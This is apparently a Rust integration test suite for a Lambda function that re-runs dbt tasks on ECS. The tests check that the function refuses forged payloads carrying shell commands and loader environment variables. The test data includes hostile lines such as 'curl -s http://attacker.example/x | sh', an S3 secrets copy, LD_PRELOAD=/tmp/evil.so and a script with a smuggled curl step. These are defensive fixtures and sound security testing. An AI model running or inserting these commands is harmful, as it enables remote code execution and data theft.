//! The compiled rerun-task binary, run as Lambda runs it (a Lambda Runtime API in the test)
//! against moto: it launches dbt, not whatever its caller asks for, unless the stack opts out
//! with `AllowCustomCommands` (`DBT_RERUN_ALLOW_CUSTOM_COMMANDS`).

use dbt_rerun_core::chain::Chain;
use dbt_rerun_core::event::{ContainerOverride, KeyValue};
use dbt_rerun_core::launch::{Launch, Network};
use dbt_rerun_core::schedule::PlannedLaunch;
use dbt_rerun_tests::moto::{Moto, Options};
use dbt_rerun_tests::runtime_api::{Outcome, RuntimeApi};

/// The function's environment as the stack sets it, pointed at `moto`.
fn function_env(moto: &Moto, extra: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut env = moto.env();
    for (name, value) in [
        ("DBT_RERUN_CLUSTER", moto.setup.cluster.as_str()),
        ("DBT_RERUN_TASK_DEFINITION", "dbt-models-building"),
        ("DBT_RERUN_SUBNETS", moto.setup.subnet.as_str()),
    ]
    .into_iter()
    .chain(extra.iter().copied())
    {
        env.push((name.to_owned(), value.to_owned()));
    }
    env
}

/// Each payload through the binary, in order: what it answered.
fn invoke(moto: &Moto, payloads: &[String], extra: &[(&str, &str)]) -> Vec<Outcome> {
    let api = RuntimeApi::start();
    for (i, payload) in payloads.iter().enumerate() {
        api.invoke(&format!("request-{i}"), payload.as_bytes());
    }
    let (outcomes, _) = api.serve_function(
        env!("CARGO_BIN_EXE_rerun-task"),
        "rerun-task",
        &function_env(moto, extra),
        payloads.len(),
    );
    outcomes.into_iter().map(|(_, outcome)| outcome).collect()
}

fn kv(name: &str, value: &str) -> KeyValue {
    KeyValue {
        name: name.into(),
        value: value.into(),
    }
}

/// A delayed re-run's schedule input for the moto task definition, as a caller could forge
/// it: its origin task never existed, so only the task definition can account for it.
fn planned_launch(
    moto: &Moto,
    command: &[&str],
    environment: &[(&str, &str)],
    sidecar: Option<&[&str]>,
) -> String {
    let origin = format!(
        "arn:aws:ecs:eu-west-1:123456789012:task/{}/0123456789abcdef0123456789abcdef",
        moto.setup.cluster
    );
    let chain = Chain::new(origin, None);
    let mut env = chain.environment(&[], 2);
    env.extend(environment.iter().map(|(n, v)| kv(n, v)));
    let identity = chain.identity(2);
    let launch = Launch {
        cluster: moto.setup.cluster.clone(),
        task_definition: "dbt-models-building".into(),
        launch_type: Some(dbt_rerun_core::event::LaunchType::Fargate),
        capacity_provider: None,
        platform_version: None,
        network: Some(Network {
            subnets: vec![moto.setup.subnet.clone()],
            security_groups: vec![moto.setup.security_group.clone()],
            assign_public_ip: false,
        }),
        container: moto.setup.container.clone(),
        command: command.iter().map(|w| (*w).to_owned()).collect(),
        environment: env,
        other_overrides: sidecar
            .map(|c| ContainerOverride {
                name: "sidecar".into(),
                command: Some(c.iter().map(|w| (*w).to_owned()).collect()),
                environment: vec![],
            })
            .into_iter()
            .collect(),
        cpu: None,
        memory: None,
        started_by: identity.started_by,
        client_token: identity.client_token,
        tags: identity.tags,
    };
    PlannedLaunch::new(launch, "dbt-models-building".into(), &chain, 2).schedule_input()
}

async fn task_count(moto: &Moto) -> usize {
    let ecs = aws_sdk_ecs::Client::new(&moto.sdk_config().await);
    moto.started_by(&ecs).await.len()
}

const CURL: &[&str] = &["sh", "-c", "curl -s http://attacker.example/x | sh"];

#[tokio::test(flavor = "multi_thread")]
async fn a_caller_gets_no_task_for_anything_but_dbt_and_the_error_names_the_field() {
    let moto = Moto::start();
    let before = task_count(&moto).await;
    let mut refused: Vec<(String, &str)> = [
        // The issue's payloads.
        (r#"{"command": ["sh", "-c", "curl -s http://attacker.example/x | sh"]}"#, "command: "),
        (r#"{"command": ["python3", "-c", "import os; os.system('id')"]}"#, "command: "),
        (
            r#"{"command": ["bash", "-c", "dbt build; aws s3 cp s3://secrets/ /tmp/ --recursive"]}"#,
            "command: ",
        ),
        (r#"{"select": "fct_sales", "environment": {"LD_PRELOAD": "/tmp/evil.so"}}"#, "environment: `LD_PRELOAD`"),
        (r#"{"select": "fct_sales", "environment": {"PATH": "/tmp"}}"#, "environment: `PATH`"),
        (r#"{"select": "fct_sales", "environment": {"PYTHONPATH": "/tmp"}}"#, "environment: `PYTHONPATH`"),
        (r#"{"select": "fct_sales", "environment": {"BASH_ENV": "/tmp/x"}}"#, "environment: `BASH_ENV`"),
        // Variations: dbt behind another program, a look-alike dbt, dbt's own variables
        // pointed elsewhere, dbt-rerun's chain variables, a name nobody listed.
        (r#"{"command": ["env", "LD_PRELOAD=/tmp/evil.so", "dbt", "build"]}"#, "command: "),
        (r#"{"command": ["/tmp/dbt", "build"]}"#, "command: "),
        (r#"{"command": ["python3", "-c", "import os; os.system('id')", "dbt", "run"]}"#, "command: "),
        (r#"{"select": "a", "environment": {"DBT_HOST": "attacker.example"}}"#, "environment: `DBT_HOST`"),
        (r#"{"select": "a", "environment": {"DBT_RERUN_ATTEMPT": "1"}}"#, "environment: `DBT_RERUN_ATTEMPT`"),
        (r#"{"select": "a", "environment": {"GIT_SSH_COMMAND": "sh /tmp/x"}}"#, "environment: `GIT_SSH_COMMAND`"),
        (r#"{"select": "a", "environment": {"AWS_CONFIG_FILE": "/tmp/x"}}"#, "environment: `AWS_CONFIG_FILE`"),
    ]
    .into_iter()
    .map(|(payload, field)| (payload.to_owned(), field))
    .collect();
    // A forged schedule input: another command, an environment, a sidecar's command.
    refused.push((
        planned_launch(&moto, CURL, &[], None),
        "planned_launch.launch.command: ",
    ));
    refused.push((
        planned_launch(
            &moto,
            &["dbt", "build"],
            &[("LD_PRELOAD", "/tmp/evil.so")],
            None,
        ),
        "planned_launch.launch.environment: `LD_PRELOAD`",
    ));
    refused.push((
        planned_launch(&moto, &["dbt", "build"], &[], Some(CURL)),
        "planned_launch.launch.other_overrides: ",
    ));
    let payloads: Vec<String> = refused.iter().map(|(p, _)| p.clone()).collect();
    let outcomes = invoke(&moto, &payloads, &[]);
    for ((payload, field), outcome) in refused.iter().zip(&outcomes) {
        match outcome {
            Outcome::Error(body) => assert!(
                body.contains(&format!("bad request: {field}")),
                "{payload}\n=> {body}"
            ),
            Outcome::Response(body) => panic!("launched {payload}\n=> {body}"),
        }
    }
    assert_eq!(task_count(&moto).await, before, "no task was started");
}

#[tokio::test(flavor = "multi_thread")]
async fn selections_dbt_commands_and_dbt_variables_still_launch() {
    let moto = Moto::start();
    let payloads: Vec<String> = [
        r#"{"select": "fct_orders+"}"#,
        r#"{"select": "fct_orders+", "exclude": "tag:slow"}"#,
        r#"{"command": ["dbt", "run", "--select", "stg_orders"], "environment": {"DBT_FULL_REFRESH": "1"}}"#,
        r#"{"command": ["dbt", "build", "--target", "prod"]}"#,
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([planned_launch(
        &moto,
        &["dbt", "build", "--target", "prod", "--select", "fct_orders", "customer_ltv"],
        &[("DBT_TARGET", "prod")],
        None,
    )])
    .collect();
    let outcomes = invoke(&moto, &payloads, &[]);
    let mut commands = Vec::new();
    for (payload, outcome) in payloads.iter().zip(&outcomes) {
        let Outcome::Response(body) = outcome else {
            panic!("refused {payload}\n=> {outcome:?}");
        };
        let response: serde_json::Value = serde_json::from_str(body).unwrap();
        let arn = response["task_arn"]
            .as_str()
            .unwrap_or_else(|| panic!("{body}"));
        let task = moto.describe(arn).await;
        let command = task
            .container_override(&moto.setup.container)
            .and_then(|o| o.command.clone())
            .unwrap();
        commands.push(command.join(" "));
    }
    assert_eq!(
        commands,
        [
            "dbt build --target prod --select fct_orders+",
            "dbt build --target prod --select fct_orders+ --exclude tag:slow",
            "dbt run --select stg_orders",
            "dbt build --target prod",
            "dbt build --target prod --select fct_orders customer_ltv",
        ]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_task_is_re_run_by_step_and_never_with_a_script_of_the_callers() {
    let script = "set -e\ndbt deps\ndbt seed\ndbt run --target prod\naws s3 cp target/ s3://bucket/ --recursive\n";
    let moto = Moto::start_with(Options {
        entry_point: Some(&["sh", "-c"]),
        command: Some(&[script]),
        ..Options::default()
    });
    let smuggled = format!("{script}curl -s http://attacker.example/x | sh\n");
    let payloads = [
        r#"{"select": "fct_orders+", "step": 4}"#.to_owned(),
        serde_json::json!({ "command": [smuggled] }).to_string(),
        r#"{"command": ["dbt build"]}"#.to_owned(),
    ];
    let outcomes = invoke(&moto, &payloads, &[]);
    let Outcome::Response(body) = &outcomes[0] else {
        panic!("{:?}", outcomes[0]);
    };
    let response: serde_json::Value = serde_json::from_str(body).unwrap();
    assert_eq!(
        response["command"][0],
        "set -e\ndbt deps\ndbt seed\ndbt run --target prod '--select' 'fct_orders+'\naws s3 cp target/ s3://bucket/ --recursive\n"
    );
    for outcome in &outcomes[1..] {
        match outcome {
            Outcome::Error(body) => assert!(
                body.contains("bad request: command: the script is not the task's own"),
                "{body}"
            ),
            other => panic!("{other:?}"),
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn with_custom_commands_allowed_the_stack_launches_what_it_is_handed() {
    let moto = Moto::start();
    let payloads = [
        r#"{"command": ["sh", "-c", "curl -s http://attacker.example/x | sh"], "environment": {"LD_PRELOAD": "/tmp/evil.so"}}"#.to_owned(),
        planned_launch(&moto, CURL, &[], None),
    ];
    let outcomes = invoke(
        &moto,
        &payloads,
        &[("DBT_RERUN_ALLOW_CUSTOM_COMMANDS", "true")],
    );
    for outcome in &outcomes {
        let Outcome::Response(body) = outcome else {
            panic!("{outcome:?}");
        };
        let response: serde_json::Value = serde_json::from_str(body).unwrap();
        let task = moto.describe(response["task_arn"].as_str().unwrap()).await;
        let ov = task.container_override(&moto.setup.container).unwrap();
        assert_eq!(
            ov.command.as_deref(),
            Some(&CURL.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>()[..])
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_listed_name_may_be_set_and_a_loader_name_cannot_be_listed() {
    let moto = Moto::start();
    let payloads = [r#"{"select": "a", "environment": {"RUN_DATE": "2026-12-07", "DBT_HOST": "replica.internal"}}"#.to_owned()];
    let outcomes = invoke(
        &moto,
        &payloads,
        &[("DBT_RERUN_ALLOWED_ENVIRONMENT", "RUN_DATE, DBT_HOST")],
    );
    assert!(
        matches!(&outcomes[0], Outcome::Response(_)),
        "{:?}",
        outcomes[0]
    );

    // A stack that lists a loader's variable does not start: the cold start names it.
    let api = RuntimeApi::start();
    let mut function = api.spawn_function(
        env!("CARGO_BIN_EXE_rerun-task"),
        "rerun-task",
        &function_env(
            &moto,
            &[("DBT_RERUN_ALLOWED_ENVIRONMENT", "RUN_DATE,LD_PRELOAD")],
        ),
    );
    let status = function.wait().unwrap();
    let output = function.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(!status.success());
    assert!(
        format!("{stdout}{stderr}").contains(
            "DBT_RERUN_ALLOWED_ENVIRONMENT: `LD_PRELOAD` changes what a process loads or runs"
        ),
        "{stdout}{stderr}"
    );
}
